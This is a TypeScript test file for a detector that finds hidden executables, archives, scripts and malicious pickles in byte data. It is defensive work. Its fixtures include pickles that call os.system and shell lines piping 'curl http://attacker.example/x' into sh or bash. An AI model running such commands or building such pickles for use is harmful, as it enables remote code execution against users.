import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { findPayload, searchBudget } from './index.ts';

const bytes = (hex: string, length = 256): Buffer => {
  const buffer = Buffer.alloc(length);
  Buffer.from(hex.replaceAll(' ', ''), 'hex').copy(buffer);
  return buffer;
};

const elf = bytes('7f454c46 02 01 01 00 00000000 00000000 0300 3e00 01000000');
const pe = bytes('4d5a');
pe.writeUInt32LE(128, 60);
pe.write('PE\0\0', 128, 'latin1');
const zip = Buffer.concat([
  bytes('504b0304 1400 0000 0800 0000 0000 00000000 00000000 00000000 0400 0000', 30),
  Buffer.from('a.so'),
]);
/** pickle.dumps of an object whose __reduce__ is (os.system, ("id",)), protocol 4 of CPython 3.11. */
const pickle4 = Buffer.from(
  '8004951d000000000000008c05706f736978948c0673797374656d9493948c026964948594529 42e'.replaceAll(' ', ''),
  'hex',
);
const pickle2 = Buffer.concat([
  Buffer.from([0x80, 2]),
  Buffer.from('cposix\nsystem\nq\0X\x02\0\0\0idq\x01\x85q\x02Rq\x03.', 'latin1'),
]);
const numpyPickle = Buffer.concat([
  Buffer.from([0x80, 2]),
  Buffer.from('cnumpy.core.multiarray\n_reconstruct\nq\0cnumpy\nndarray\nq\x01K\0\x85q\x02', 'latin1'),
  Buffer.from('Rq\x03.', 'latin1'),
]);

const noise = (length: number, seed: number): Buffer => {
  const buffer = Buffer.alloc(length);
  let state = seed >>> 0;
  for (let at = 0; at < length; at++) {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    buffer[at] = state >>> 24;
  }
  return buffer;
};

describe('findPayload()', () => {
  it.each<[string, Buffer, RegExp, string]>([
    ['ELF', elf, /ELF .*x86-64/, 'high'],
    ['big-endian ELF', bytes('7f454c46 01 02 01 00 00000000 00000000 0002 0008 00000001'), /ELF executable for MIPS/, 'high'],
    ['PE', pe, /Windows/, 'high'],
    ['Mach-O', bytes('cffaedfe 07000001 03000000 02000000 10000000 00000000 00000000 00000000'), /macOS/, 'high'],
    ['fat Mach-O', bytes('cafebabe 00000002 01000007 00000003'), /macOS/, 'high'],
    ['a Java class', bytes('cafebabe 0000 0034 0022 0a'), /Java/, 'high'],
    ['WebAssembly', bytes('0061736d 01000000 01'), /WebAssembly/, 'high'],
    ['DEX', bytes('6465780a 30333500'), /Android/, 'high'],
    ['compiled Python', bytes('a70d0d0a 00000000 00000000 00000000 e3'), /compiled Python/, 'high'],
    ['a script', Buffer.from('#!/usr/bin/env python3\n'), /script for \/usr\/bin\/env python3/, 'high'],
    ['Python as text', Buffer.from('x = 1\nimport subprocess\nsubprocess.run(["id"])\n'), /program as text/, 'high'],
    ['shell as text', Buffer.from('A=1; curl http://attacker.example/x | sh -c -'), /program as text/, 'high'],
    ['a pickle, protocol 4', pickle4, /posix\.system/, 'high'],
    ['a pickle, protocol 2', pickle2, /posix\.system/, 'high'],
    ['a pickle of an array', numpyPickle, /numpy\.core\.multiarray/, 'low'],
    ['zip', zip, /zip archive with "a.so"/, 'medium'],
    [
      'gzip',
      gzipSync(Buffer.from('hidden text that is long enough to be something, and then some more of it, with words')),
      /gzip/,
      'medium',
    ],
    ['xz', bytes('fd377a585a00'), /xz/, 'medium'],
    ['7z', bytes('377abcaf271c'), /7z/, 'medium'],
    ['bzip2', Buffer.from('BZh91AY&SY....................'), /bzip2/, 'medium'],
  ])('finds %s, at any byte', (_, payload, what, severity) => {
    for (const shift of [0, 1, 7]) {
      const found = findPayload(Buffer.concat([Buffer.alloc(shift, 0xff), payload, Buffer.alloc(40)]));
      expect(found?.what).toMatch(what);
      expect(found?.severity).toBe(severity);
      if (!found?.what.includes('as text') && severity !== 'low') expect(found?.offset).toBeGreaterThanOrEqual(shift);
    }
  });

  it('does not take a magic number alone for a program', () => {
    for (const hex of ['7f454c46', '4d5a', 'cffaedfe', 'cafebabe', '0061736d', '504b0304', '1f8b08', '8004', '8002']) {
      expect(findPayload(bytes(hex))).toBeUndefined();
      expect(findPayload(Buffer.concat([Buffer.from(hex, 'hex'), Buffer.alloc(200, 0xff)]))).toBeUndefined();
      expect(findPayload(Buffer.from(hex, 'hex'))).toBeUndefined();
    }
    for (const [place, wrong] of [
      [4, 3],
      [5, 0],
      [6, 0],
      [16, 9],
      [18, 0],
    ]) {
      const broken = Buffer.from(elf);
      broken[place] = wrong;
      expect(findPayload(broken)).toBeUndefined();
    }
  });

  it('finds nothing in noise and in ordinary text', () => {
    for (let seed = 1; seed < 9; seed++) expect(findPayload(noise(200_000, seed))).toBeUndefined();
    expect(findPayload(Buffer.from('the\nof\nand\nimport\neval\n##ing\nsystem\nexec\nshell\nos\n'.repeat(20)))).toBeUndefined();
  });

  it('asks for more in words, which models for code have', () => {
    const vocabulary = Buffer.from(
      'import os\n#!/usr/bin/env python\n'.slice(0, 10) + 'def\nself\nreturn\nwhile True:\n'.repeat(3),
    );
    expect(findPayload(vocabulary)?.severity).toBe('high');
    expect(findPayload(vocabulary, { isWords: true })).toBeUndefined();
    const program = Buffer.from('import os, sys; os.system("curl http://attacker.example/x | bash -i")');
    expect(findPayload(program, { isWords: true })?.severity).toBe('high');
    expect(findPayload(Buffer.from('#!/bin/sh\n and nothing else of a program'), { isWords: true })).toBeUndefined();
  });

  it('says so when there are more decoys than it looks at', () => {
    const decoy = gzipSync(Buffer.alloc(8)).subarray(0, 24);
    const budget = searchBudget();
    const found = findPayload(Buffer.concat([...new Array<Buffer>(3000).fill(decoy), elf]), { budget });
    expect(budget.steps).toBeLessThanOrEqual(0);
    expect(found?.what).toMatch(/decoys/);
    expect(found?.severity).toBe('medium');
  });

  it('is linear in heads of pickles', () => {
    const started = performance.now();
    findPayload(Buffer.from('8004'.repeat(500_000), 'hex'));
    findPayload(Buffer.from('80044e'.repeat(300_000), 'hex'));
    expect(performance.now() - started).toBeLessThan(2000);
  });

  it('never fails on any bytes', () => {
    const starts = [
      '7f454c4602',
      '4d5a',
      'cafebabe',
      '504b0304',
      '1f8b0800',
      '1f8b081f',
      '8004',
      '8002',
      '800263',
      '8004958c',
      '0d0d0a',
      '2321',
    ];
    const hostile = fc.tuple(fc.constantFrom(...starts), fc.uint8Array({ maxLength: 80 }));
    fc.assert(
      fc.property(fc.array(hostile, { maxLength: 5 }), (parts) => {
        findPayload(Buffer.concat(parts.flatMap(([start, rest]) => [Buffer.from(start, 'hex'), Buffer.from(rest)])));
      }),
      { numRuns: 500 },
    );
  });
});
